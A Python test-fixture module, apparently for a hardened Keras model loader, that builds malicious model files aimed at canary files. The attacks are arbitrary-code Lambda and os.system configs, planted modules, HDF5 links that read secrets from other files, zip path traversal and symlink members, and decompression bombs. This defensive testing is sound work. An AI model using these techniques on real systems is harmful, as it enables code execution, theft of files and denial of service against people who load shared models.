"""Model files that attack whoever loads them: each does harm to a canary, or to memory, where nothing stops it."""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import tensorflow as tf
from keras import layers

__all__ = ["ATTACKS", "Attack", "is_touched", "network", "new_canary"]

_OF_KERAS_2 = "_of_keras_2.keras"
_BLOCK = 1 << 20
_CLASSES = 8
_SECRET = np.arange(1, _CLASSES + 1, dtype=np.float32)
_BOMB = 450  # blocks
_UNSAFE = "keras without its safe mode"
_WRITTEN, _HDF5_SECRET, _RAW_SECRET = "written", "secret.h5", "secret.bin"

Build = Callable[[Path, Path], Path]
Replace = Callable[[Any, str, Path], None]


@dataclass(frozen=True)
class Attack:
    """One malicious file.

    Attributes:
        build: Writes it into a folder, aimed at a canary, and returns its path.
        says: Words of the refusal; None where it is loaded without harm.
        alone: What does harm with it where nothing of ours stands in front: `keras`; `keras without its safe mode`;
            `h5py`, which follows what newer versions of Keras refuse to; or nothing, because Python's own zipfile and
            json see to it.
        weights: Whether it is given as weights.
        memory: Whether the harm is to memory.
        canary: Name of the canary: a file that is written, or a secret that is read.
        custom: Modules that its user names, and trusts.
    """

    build: Build
    says: str | None
    alone: str | None
    weights: bool = False
    memory: bool = False
    canary: str = _WRITTEN
    custom: tuple[str, ...] = ()


def new_canary(path: Path) -> None:
    """A file that shows whether it is written or read from now on: by its existence, or by its time of access."""
    path.unlink(missing_ok=True)
    if path.name == _HDF5_SECRET:
        with h5py.File(path, "w") as file:
            file["secret"] = _SECRET
    elif path.name == _RAW_SECRET:
        path.write_bytes(_SECRET.tobytes())
    if path.exists():
        os.utime(path, (1, path.stat().st_mtime))


def is_touched(path: Path) -> bool:
    """Whether the canary was written or read; file systems note the first access after a change, if not every one."""
    return path.exists() and path.stat().st_atime != 1


def network(*extra: Any) -> keras.Model:
    """A classifier of 4x4 pixels, with a bias of eight numbers."""
    return keras.Sequential(
        [layers.Input((4, 4, 3)), *extra, layers.GlobalAveragePooling2D(), layers.Dense(_CLASSES, name="classes")]
    )


def _saved(folder: Path, model: keras.Model, name: str) -> Path:
    path = folder / name
    model.save_weights(path) if name.endswith(".weights.h5") else model.save(path)
    return path


# Code in the file


def _payload(canary: Path) -> Any:
    return eval(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]")  # a name of ours would not travel with it


def _lambda(name: str, *, nested: bool = False) -> Build:
    def build(folder: Path, canary: Path) -> Path:
        layer = layers.Lambda(_payload(canary))
        if nested:
            layer = keras.Sequential([layers.Input((4, 4, 3)), keras.Sequential([layers.Input((4, 4, 3)), layer])])
        path = _saved(folder, network(layer), name)
        new_canary(canary)  # which building the network has written
        return path

    return build


def _with_config(change: Callable[[dict[str, Any], Path, Path], None]) -> Build:
    """A `.keras` file whose last layer's entry is changed."""

    def build(folder: Path, canary: Path) -> Path:
        path = _saved(folder, network(), "model.keras")
        with _members(path) as members:
            config = json.loads(members["config.json"])
            change(config["config"]["layers"][-1], folder, canary)
            members["config.json"] = json.dumps(config).encode()
        return path

    return build


@contextmanager
def _members(path: Path) -> Iterator[dict[str, bytes]]:
    """The members of an archive, written back after the block."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    yield members
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _marshalled_activation(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    function = layers.Lambda(_payload(canary)).get_config()["function"]
    layer["config"]["activation"] = {"class_name": "__lambda__", "config": {"value": function["config"]["code"]}}


def _shell_class(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    layer.update(module="os", class_name="system", registered_name="system", config={"command": f"touch {canary}"})


def _shell_function(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    layer["config"]["activation"] = function


def _shell_function_under_a_trusted_name(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    _shell_function(layer, folder, canary)
    layer["config"]["activation"]["registered_name"] = "Squeeze"


def _trusted_class_of_a_planted_module(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    (folder / "planted.py").write_text(f"open({str(canary)!r}, 'w').close()")
    layer.update(module="planted", class_name="Squeeze", registered_name="other>Squeeze")


def _planted_in_keras_2(folder: Path, canary: Path) -> Path:
    import tf_keras

    path = folder / f"model{_OF_KERAS_2}"
    tf_keras.Sequential([tf_keras.layers.Input((4, 4, 3)), tf_keras.layers.Flatten()]).save(str(path))
    (folder / "planted_2.py").write_text(f"open({str(canary)!r}, 'w').close()")
    with _members(path) as members:
        config = json.loads(members["config.json"])
        config.update(module="planted_2", class_name="Evil", registered_name="Evil")
        members["config.json"] = json.dumps(config).encode()
    return path


def _builtin_function(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    function = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"}
    layer["config"]["activation"] = function


def _planted_module(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    """A package beside the model, under a name that Keras imports from."""
    (folder / "keras_cv").mkdir()
    (folder / "keras_cv" / "__init__.py").write_text(f"open({str(canary)!r}, 'w').close()")
    layer.update(module="keras_cv", class_name="Evil", registered_name="Evil")


def _download(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    """A Lambda layer without a lambda: it names a function of Keras, which is given others to call."""
    load = {"module": "keras.datasets.mnist", "class_name": "function", "config": "load_data", "registered_name": None}
    layer.update(module="keras.layers", class_name="Lambda", registered_name=None)
    layer.pop("build_config", None)
    layer["config"] = {
        "name": "classes",
        "function": {"module": "keras.ops", "class_name": "function", "config": "cond", "registered_name": "cond"},
        "arguments": {"true_fn": load, "false_fn": load},
    }


def _vocabulary(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    layer.update(module="keras.layers", class_name="StringLookup", registered_name=None)
    layer.pop("build_config", None)
    layer["config"] = {"name": "words", "vocabulary": str(canary)}


def _huge_layer(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    layer["config"]["units"] = 10**12


class _WritesWhenLoaded(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
    def __init__(self, canary: Path) -> None:
        super().__init__()
        self.canary = tf.constant(str(canary))

    def _create_resource(self) -> Any:
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name=str(id(self)))

    def _initialize(self) -> None:
        tf.io.write_file(self.canary, "written")


def _graph(folder: Path, canary: Path) -> Path:
    module = tf.Module()
    module.resource = _WritesWhenLoaded(canary)
    module.serve = tf.function(lambda x: x, input_signature=[tf.TensorSpec((None, _CLASSES))])
    tf.saved_model.save(module, str(folder / "graph"))
    new_canary(canary)
    return folder / "graph"


def _tfsm(layer: dict[str, Any], folder: Path, canary: Path) -> None:
    graph = str(_graph(folder, canary))
    layer.update(module="keras.layers", class_name="TFSMLayer", registered_name=None)
    layer.pop("build_config", None)
    layer["config"] = {"name": "classes", "filepath": graph, "call_endpoint": "serve"}


def _keras_2_folder(folder: Path, canary: Path, *, code: bool) -> Path:
    import tf_keras

    parts = [tf_keras.layers.Input((4, 4, 3)), tf_keras.layers.GlobalAveragePooling2D()]
    parts += [tf_keras.layers.Lambda(_payload(canary))] if code else []
    model = tf_keras.Sequential([*parts, tf_keras.layers.Dense(_CLASSES)])
    if not code:
        model.resource = _WritesWhenLoaded(canary)
    model.save(str(folder / "model"), save_format="tf")
    new_canary(canary)
    return folder / "model"


# HDF5


def _bias_replaced(name: str, replace: Replace) -> Build:
    """A file whose array of eight numbers is replaced, in whichever layout Keras keeps it."""

    def build(folder: Path, canary: Path) -> Path:
        path = _saved(folder, network(), name)
        if name.endswith(".keras"):
            inner = folder / "model.weights.h5"
            with _members(path) as members:
                inner.write_bytes(members["model.weights.h5"])
                _replace_bias(inner, replace, canary)
                members["model.weights.h5"] = inner.read_bytes()
        else:
            _replace_bias(path, replace, canary)
        return path

    return build


def _replace_bias(path: Path, replace: Replace, canary: Path) -> None:
    with h5py.File(path, "a") as file:
        found: list[str] = []
        file.visititems(lambda key, item: found.append(key) if getattr(item, "shape", None) == (_CLASSES,) else None)
        (place,) = found
        del file[place]
        replace(file, place, canary)


def _external_link(file: Any, place: str, canary: Path) -> None:
    file[place] = h5py.ExternalLink(str(canary), "/secret")


def _linked_group(file: Any, place: str, canary: Path) -> None:
    file["elsewhere"] = h5py.ExternalLink(str(canary), "/")
    file[place] = h5py.SoftLink("/elsewhere/secret")


def _external_storage(file: Any, place: str, canary: Path) -> None:
    file.create_dataset(place, (_CLASSES,), "f4", external=[(str(canary), 0, h5py.h5f.UNLIMITED)])


def _virtual(file: Any, place: str, canary: Path) -> None:
    layout = h5py.VirtualLayout((_CLASSES,), "f4")
    layout[:] = h5py.VirtualSource(str(canary), "secret", shape=(_CLASSES,))
    file.create_virtual_dataset(place, layout)


def _huge_array(file: Any, place: str, canary: Path) -> None:
    """Chunked and packed, with nothing written: it reads as so many zeros."""
    file.create_dataset(place, (_BOMB * _BLOCK // 4,), "f4", chunks=(_BLOCK,), compression="gzip")


# Archives


def _extra_member(name: str, *, link: bool = False) -> Build:
    def build(folder: Path, canary: Path) -> Path:
        path = _saved(folder, network(), "model.keras")
        with zipfile.ZipFile(path, "a") as archive:
            member = zipfile.ZipInfo(name.format(canary=canary, folder=canary.parent))
            member.external_attr = (0o120777 if link else 0o100644) << 16
            archive.writestr(member, str(canary))
            archive.writestr("assets/notes.txt", "a fourth member, for which Keras unpacks all of them")
        return path

    return build


def _config_twice(folder: Path, canary: Path) -> Path:
    path = _lambda("model.keras")(folder, canary)
    harmless = _saved(folder, network(), "other.keras")
    with zipfile.ZipFile(harmless) as archive:
        config = archive.read("config.json")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", config)
    return path


def _packed(member: str) -> Build:
    """An archive one of whose members inflates to hundreds of times its size."""

    def build(folder: Path, canary: Path) -> Path:
        path = _saved(folder, network(), "model.keras")
        with _members(path) as members:
            start = members.pop(member)
        with (
            zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open(member, "w") as stream,
        ):
            stream.write(start)
            for _ in range(_BOMB):
                stream.write(b" " * _BLOCK)
        return path

    return build


def _deep_config(folder: Path, canary: Path) -> Path:
    path = _saved(folder, network(), "model.keras")
    with _members(path) as members:
        members["config.json"] = b"[" * 200_000 + b"]" * 200_000
    return path


def _hdf5(
    title: str, replace: Replace, says: str, alone: str = "h5py", canary: str = _HDF5_SECRET
) -> dict[str, Attack]:
    memory = replace is _huge_array
    return {
        f"{title} in {name}": Attack(_bias_replaced(name, replace), says, alone, "weights.h5" in name, memory, canary)
        for name in ("model.h5", "own.weights.h5", "model.keras")
    }


ATTACKS: dict[str, Attack] = {
    "a Lambda layer in .keras": Attack(_lambda("model.keras"), "a Lambda layer", _UNSAFE),
    "a Lambda layer in .h5": Attack(_lambda("model.h5"), "a Lambda layer", _UNSAFE),
    "a nested Lambda layer in .keras": Attack(_lambda("model.keras", nested=True), "a Lambda layer", _UNSAFE),
    "a nested Lambda layer in .h5": Attack(_lambda("model.h5", nested=True), "a Lambda layer", _UNSAFE),
    "a marshalled activation": Attack(_with_config(_marshalled_activation), "a Python function", _UNSAFE),
    "a TFSMLayer": Attack(_with_config(_tfsm), "a TFSMLayer", _UNSAFE),
    "a class of os": Attack(_with_config(_shell_class), "'system' of the module 'os'", None),
    "a function of os": Attack(_with_config(_shell_function), "'system' of the module 'os'", None),
    "a function of os under a trusted name": Attack(
        _with_config(_shell_function_under_a_trusted_name), "'system' of the module 'os'", None, custom=("brought",)
    ),
    "a trusted class of a planted module": Attack(
        _with_config(_trusted_class_of_a_planted_module),
        "'Squeeze' of the module 'planted'",
        None,
        custom=("brought",),
    ),
    "a planted module in .keras of Keras 2": Attack(
        _planted_in_keras_2, "'Evil' of the module 'planted_2'", "keras", custom=("brought",)
    ),
    "a builtin function": Attack(_with_config(_builtin_function), "'exec'", None),
    "a planted package": Attack(_with_config(_planted_module), "'Evil' of the module 'keras_cv'", "keras"),
    "a download": Attack(_with_config(_download), "a Lambda layer", "keras"),
    "a vocabulary elsewhere": Attack(_with_config(_vocabulary), "another file", _UNSAFE, canary=_RAW_SECRET),
    "a SavedModel whose graph writes": Attack(lambda *to: _keras_2_folder(*to, code=False), None, "keras"),
    "a SavedModel with a Lambda layer": Attack(lambda *to: _keras_2_folder(*to, code=True), "a Lambda layer", "keras"),
    **_hdf5("a link to another file", _external_link, "leads elsewhere"),
    **_hdf5("a link through another file", _linked_group, "leads elsewhere"),
    **_hdf5("an array stored elsewhere", _external_storage, "kept in another file", canary=_RAW_SECRET),
    **_hdf5("a virtual array", _virtual, "kept in other files"),
    **_hdf5("a huge array", _huge_array, "would take", "keras", _WRITTEN),
    "a member above the archive": Attack(_extra_member("../../{canary.name}"), "outside of it", None),
    "a member at an absolute path": Attack(_extra_member("{canary}"), "outside of it", None),
    "a member that is a link": Attack(_extra_member("assets/link", link=True), "link or device", None),
    "a member twice": Attack(_config_twice, "twice", None),
    "a packed config.json": Attack(_packed("config.json"), "describes its network in", "keras", memory=True),
    "packed weights": Attack(_packed("model.weights.h5"), "would take", "keras", memory=True),
    "a deep config.json": Attack(_deep_config, "recursion", None, memory=True),
    "a layer of a million million units": Attack(_with_config(_huge_layer), "cannot be loaded", None, memory=True),
}
"""Each by name."""
